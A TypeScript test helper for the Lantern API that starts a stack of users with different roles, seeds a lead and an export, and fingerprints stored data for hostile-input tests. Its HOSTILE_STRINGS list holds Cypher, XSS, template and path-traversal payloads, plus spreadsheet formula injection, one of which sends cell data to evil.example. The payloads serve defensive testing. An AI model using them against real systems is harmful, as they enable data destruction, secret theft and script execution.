import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadSigningKey } from '../../graph/exports/signing';
import type { LeadSettings } from '../../graph/exports/store';
import type { ApiRole } from '../../src/domain/auth';
import { DEFAULT_LEAD_RULES } from '../../src/domain/leads';
import type { AppOptions } from '../../src/http/app';
import { exportsRouter } from '../../src/http/routes/exports';
import { leadsRouter } from '../../src/http/routes/leads';
import { createLogger, type Logger } from '../../src/log/logger';
import { QUEUES, type QueueName } from '../../workers/queues';
import { waitFor } from './cli';
import { createTestKey } from './keys';
import { deleteKeysWithPrefix, testRedisUrl } from './services';
import { startTestStack, TEST_SECRET, type TestStack, untilProcessed } from './stack';

/*
 * The whole API (leads and exports included) with, optionally, every worker `lantern start` runs, for
 * the hostile-input tests: what an attacker reaches is what production serves.
 */

export const HOSTILE_ROLES = {
  caseworker: ['caseworker', 'ngo-hostile-a'],
  caseworker2: ['caseworker', 'ngo-hostile-b'],
  analyst: ['analyst', 'hub'],
  analyst2: ['analyst', 'hub'],
  partner: ['partner', 'bank-a'],
  partner2: ['partner', 'bank-b'],
  admin: ['admin', 'hub'],
} as const satisfies Record<string, readonly [ApiRole, string]>;
export type HostileUser = keyof typeof HOSTILE_ROLES;

export interface HostileStack extends TestStack {
  settings: LeadSettings;
  keys: Record<HostileUser, string>;
}

export async function startHostileStack(
  name: string,
  options: { workers: boolean; logger?: Logger; app?: AppOptions },
): Promise<HostileStack> {
  const dataDir = mkdtempSync(path.join(os.tmpdir(), `lantern-${name}-`));
  const settings: LeadSettings = {
    rules: DEFAULT_LEAD_RULES,
    twoPersonRule: true,
    reviewDays: 180,
    signer: loadSigningKey(dataDir),
    issuer: 'Lantern hostile-input tests',
    redressContact: 'redress@hub.example',
  };
  const logger = options.logger ?? createLogger('silent');
  const stack = await startTestStack(name, {
    workers: options.workers,
    logger,
    app: { ...options.app, apiRouters: [leadsRouter(settings), exportsRouter(settings)] },
    workerOptions: { leads: settings, imports: { secret: TEST_SECRET } },
  });
  const keys = {} as Record<HostileUser, string>;
  // Two analysts of one hub need two keys (held by two people, named after the users), so keys are made here
  // rather than through keyFor's one-per-role cache.
  for (const [user, [role, org]] of Object.entries(HOSTILE_ROLES) as Array<[HostileUser, readonly [ApiRole, string]]>) {
    keys[user] = (await createTestKey(stack.graph, { role, org, name: user, createdBy: 'hostile-test' })).key;
  }
  return {
    ...stack,
    settings,
    keys,
    async close() {
      await stack.close();
      await deleteKeysWithPrefix(testRedisUrl(), stack.prefix);
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

export async function postJson(
  stack: TestStack,
  key: string,
  route: string,
  body: unknown,
  method = 'POST',
): Promise<{ status: number; body: Record<string, unknown> }> {
  const res = await stack.call(`/api/v1${route}`, { method, key, json: body });
  const text = await res.text();
  return { status: res.status, body: text ? (JSON.parse(text) as Record<string, unknown>) : {} };
}

export async function getJson(
  stack: TestStack,
  key: string,
  route: string,
): Promise<{ status: number; body: Record<string, unknown> & { items?: Array<Record<string, unknown>> } }> {
  const res = await stack.call(`/api/v1${route}`, { key });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

/** Two NGOs report one account: enough for a lead, which two analysts approve and export to bank-a. */
export async function seedLeadAndExport(
  stack: HostileStack,
  names: readonly [string, string] | string[] = ['Pranee Saengthongkham', 'Mae Nee'],
): Promise<{ reportIds: string[]; leadId: string; exportId: string }> {
  const subjects = (name: string) => [
    { ref: 'p1', schema: 'Person', role: 'Exploiter', properties: { name: [name], phone: ['086-392-4718'] } },
    { ref: 'a1', schema: 'BankAccount', properties: { accountNumber: ['174-0-58321-6'], bankName: ['Bangkok Bank'] } },
  ];
  const reportIds: string[] = [];
  for (const [user, caseRef, name] of [
    ['caseworker', 'HOSTILE-SEED-1', names[0]!],
    ['caseworker2', 'HOSTILE-SEED-2', names[1]!],
  ] as const) {
    const res = await postJson(stack, stack.keys[user], '/reports', {
      caseRef,
      country: 'TH',
      subjects: subjects(name),
      links: [{ type: 'Ownership', from: 'p1', to: 'a1' }],
    });
    if (res.status !== 202) throw new Error(`seed report refused: ${JSON.stringify(res.body)}`);
    reportIds.push(res.body.id as string);
    await untilProcessed(stack, res.body.id as string, stack.keys[user], 180_000);
  }
  // Other tests' data may make leads of their own: the seeded one is the lead naming the first person.
  const named = JSON.stringify(names[0]).slice(1, -1);
  const leadId = await waitFor(
    async () =>
      (await getJson(stack, stack.keys.analyst, '/leads?limit=200')).body.items?.find((lead) =>
        JSON.stringify(lead).includes(named),
      )?.id as string | undefined,
    180_000,
    'a lead from the seed reports',
  );
  const { revision } = (await getJson(stack, stack.keys.analyst, `/leads/${leadId}`)).body;
  for (const analyst of ['analyst', 'analyst2'] as const)
    await postJson(stack, stack.keys[analyst], `/leads/${leadId}/approve`, { revision });
  const created = await postJson(stack, stack.keys.analyst, '/exports', { partner: 'bank-a', leads: [leadId] });
  if (created.status !== 201) throw new Error(`seed export refused: ${JSON.stringify(created.body)}`);
  return { reportIds, leadId, exportId: created.body.id as string };
}

export interface Footprint {
  nodes: number;
  relationships: number;
  labels: string[];
  relationshipTypes: string[];
  /** SHA-256 over every node's and relationship's properties: a changed value shows even when counts do not. */
  digest: string;
  jobs: number;
}

/** Everything a request could have stored: the graph, to the last property, and every job on every queue. */
export async function footprint(stack: TestStack): Promise<Footprint> {
  const graph = stack.graph.read(async (tx) => {
    const nodes = await tx.run(
      'MATCH (n) RETURN elementId(n) AS id, labels(n) AS labels, properties(n) AS props ORDER BY id',
    );
    const rels = await tx.run(
      'MATCH ()-[r]->() RETURN elementId(r) AS id, type(r) AS type, properties(r) AS props ORDER BY id',
    );
    const hash = createHash('sha256');
    for (const row of [...nodes.records, ...rels.records])
      hash.update(JSON.stringify(row.toObject(), (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v)));
    return {
      nodes: nodes.records.length,
      relationships: rels.records.length,
      labels: [...new Set(nodes.records.flatMap((r) => r.get('labels') as string[]))].sort(),
      relationshipTypes: [...new Set(rels.records.map((r) => r.get('type') as string))].sort(),
      digest: hash.digest('hex'),
    };
  });
  const jobs = Promise.all(
    (Object.values(QUEUES) as QueueName[]).map(async (name) =>
      Object.values(await stack.ctx.producer.queue(name).getJobCounts()).reduce((a, b) => a + b, 0),
    ),
  );
  const [stored, perQueue] = await Promise.all([graph, jobs]);
  return { ...stored, jobs: perQueue.reduce((a, b) => a + b, 0) };
}

/**
 * Strings that would do something if any layer treated data as code: Cypher, HTML/JS, spreadsheets, paths, templates.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1 //",
  '"}) MATCH (n) DETACH DELETE n //',
  "'}) CREATE (:Pwned {by: 'cypher'}) //",
  '`) CREATE (:Pwned) WITH 1 AS x MATCH (n) RETURN n //',
  "x' WITH 1 AS a CALL db.labels() YIELD label RETURN label //",
  '$secret',
  '{id}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, "${...}" taken literally
  '${process.env.LANTERN_SECRET}',
  '{{7*7}}',
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '../../../etc/passwd',
  '__proto__',
  'constructor',
  'null',
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\uD800',
  '\uDFFF lone',
  '\uFFFD',
  '💣'.repeat(3),
  'ข้อความภาษาไทย',
];
